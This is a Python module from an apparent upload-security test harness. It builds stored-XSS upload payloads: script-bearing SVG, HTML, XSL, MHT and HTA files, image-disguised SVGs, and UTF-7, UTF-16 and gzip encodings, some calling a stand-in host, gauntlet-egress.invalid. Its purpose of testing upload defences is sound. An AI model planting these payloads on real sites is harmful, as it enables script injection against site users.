"""Documents that a browser runs: SVG, pages, XML.

What it does
    Uploads documents with a script in them under their own extension, where the target is not
    known to take it, and under the names of pictures: in the open, compressed, in encodings
    that hide an angle bracket, in a mail that holds a page.

Why it works
    SVG is a picture to a person and a program to a browser, and so is XML with a style sheet.
    A list of "images" that holds SVG lets script in; so does a decoder that finds out by itself
    that the file called ``.png`` is one.

Expected defence
    What runs is not on the list of types; or only drawing is left of it.

References
    - CWE-79, CWE-80, CWE-434
    - OWASP ASVS v5.0.0-1.3.4, v5.0.0-3.2.1; WSTG-INPV-02
"""

from __future__ import annotations

from hypothesis import strategies as st

from attacks.model import Attack, Body, Confidence, Demand, Probe, Profile, SentFile, Severity
from attacks.oracles.canaries import HIDDEN
from attacks.oracles.not_kept_as_sent import not_kept_as_sent
from attacks.strategies.tars import gzipped
from attacks.strategies.typed import IMAGES, drawn, holding, honest_each, of_types
from attacks.uploads import upload

SCRIPT = b"<script>/*" + HIDDEN + b"*/</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
XHTML = b'<html xmlns="http://www.w3.org/1999/xhtml">'
SHEET = b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
MAIL = (
    b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + SCRIPT.replace(b"<", b"=3C")
)


def _utf_7(data: bytes) -> bytes:
    return data.replace(b"<", b"+ADw-").replace(b">", b"+AD4-")


DOCUMENTS = {
    "svg": (b"image/svg+xml", SVG + SCRIPT + b"</svg>"),
    "html": (b"text/html", b"<!doctype html>" + SCRIPT),
    "xhtml": (b"application/xhtml+xml", XHTML + SCRIPT + b"</html>"),
    "xml": (b"text/xml", b'<?xml version="1.0"?>' + XHTML + SCRIPT + b"</html>"),
    "svgz": (b"image/svg+xml", gzipped(SVG + SCRIPT + b"</svg>")),
    "xsl": (b"text/xsl", SHEET + SCRIPT + b"</xsl:template></xsl:stylesheet>"),
    "rss": (b"application/rss+xml", b"<rss><channel><title>" + XHTML + SCRIPT + b"</html></title>"),
    "eml": (b"message/rfc822", MAIL),
    "mht": (b"multipart/related", MAIL),
    "hta": (b"application/hta", SCRIPT),
}
# Further drawings, under their own name alone.
HIDDEN_DRAWINGS = {
    "utf-16": ("\ufeff" + (SVG + SCRIPT).decode() + "</svg>").encode("utf-16"),
    "utf-7": b'<?xml version="1.0" encoding="utf-7"?>' + _utf_7(SVG + SCRIPT + b"</svg>"),
    "external-image": SVG + b'<image href="//gauntlet-egress.invalid/' + HIDDEN + b'"/></svg>',
    "external-use": SVG + b'<use href="//gauntlet-egress.invalid/' + HIDDEN + b'#a"/></svg>',
    # an animation sets the address of a link
    "animated": SVG
    + b'<a><set attributeName="href" to="javascript:/*'
    + HIDDEN
    + b'*/"/></a></svg>',
    # a name space of one's own choice, an entity in place of a tag
    "prefixed": b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>/*'
    + HIDDEN
    + b"*/</s:script></s:svg>",
    "section": SVG + b"<script><![CDATA[/*" + HIDDEN + b"*/]]></script></svg>",
    "entity": b'<!DOCTYPE svg [<!ENTITY s "/*'
    + HIDDEN
    + b'*/">]>'
    + SVG
    + b"<script>&s;</script></svg>",
}
DRAWINGS = {
    "handler": SVG.replace(b" width", b' onload="/*' + HIDDEN + b'*/" width') + b"</svg>",
    "foreign": SVG + b"<foreignObject>" + XHTML + SCRIPT + b"</html></foreignObject></svg>",
    "link": SVG + b'<a href="javascript:/*' + HIDDEN + b'*/"><path/></a></svg>',
    "style-sheet": b'<?xml-stylesheet href="#x"?>' + SVG + SCRIPT + b"</svg>",
}

OPENINGS = (
    b"\xef\xbb\xbf",
    b" ",
    b'<?xml version="1.0"?>',
    b"<!-- a picture -->",
    b'<?xml-stylesheet href="#x"?>',
    b"<!DOCTYPE svg>",
)
ACTIVE = (
    SCRIPT,
    b'<script href="data:text/javascript,/*' + HIDDEN + b'*/"/>',
    b'<image href="x" onerror="/*' + HIDDEN + b'*/"/>',
    b"<style>@import '//gauntlet-egress.invalid/" + HIDDEN + b"'</style>",
    b'<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="' + HIDDEN + b'"/>',
)


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return each document under its own name, then each drawing under a picture's."""
    accepted = {sample.extension for sample in profile.accepted}
    own = (_document(profile, e) for e in DOCUMENTS if e not in accepted)
    drawings = (
        _document(profile, "svg", content, f"{name}-svg")
        for name, content in HIDDEN_DRAWINGS.items()
        if "svg" not in accepted
    )
    disguised = (
        holding(profile, sample, content, variant=f"{name}-as-{sample.extension}")
        for sample in of_types(profile, *IMAGES)
        for name, content in {"script": DOCUMENTS["svg"][1], **DRAWINGS}.items()
    )
    return (*own, *drawings, *disguised)


def _document(profile: Profile, extension: str, drawing: bytes = b"", variant: str = "") -> Probe:
    media_type, content = DOCUMENTS[extension]
    content = drawing or content
    name = f"document.{extension}".encode()
    file = SentFile(filename=name, content=Body((content,)), media_type=media_type)
    step = upload(profile, file, demand=Demand.REFUSE)
    return Probe(steps=(step,), variant=variant or f"own-{extension}")


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw one of the documents, or compose one, under its own name or a picture's."""
    accepted = {sample.extension for sample in profile.accepted}
    own = st.sampled_from([e for e in DOCUMENTS if e not in accepted] or ["svg"])
    composed = st.builds(
        lambda openings, active, pack: pack(b"".join(openings) + SVG + active + b"</svg>"),
        st.lists(st.sampled_from(OPENINGS), max_size=3, unique=True),
        st.sampled_from(ACTIVE),
        st.sampled_from((bytes, _utf_7, gzipped)),
    )
    contents = st.sampled_from([*DRAWINGS.values()]) | composed
    return own.map(lambda e: _document(profile, e)) | drawn(profile, IMAGES, contents)


ATTACK = Attack(
    id="content.active-document",
    title="A document that runs, taken as a file",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    controls=("active-content",),
    cwe=(79, 80, 434),
    asvs=("v5.0.0-1.3.4", "v5.0.0-3.2.1"),
    wstg=("WSTG-INPV-02",),
    oracles=(not_kept_as_sent,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *IMAGES),
)
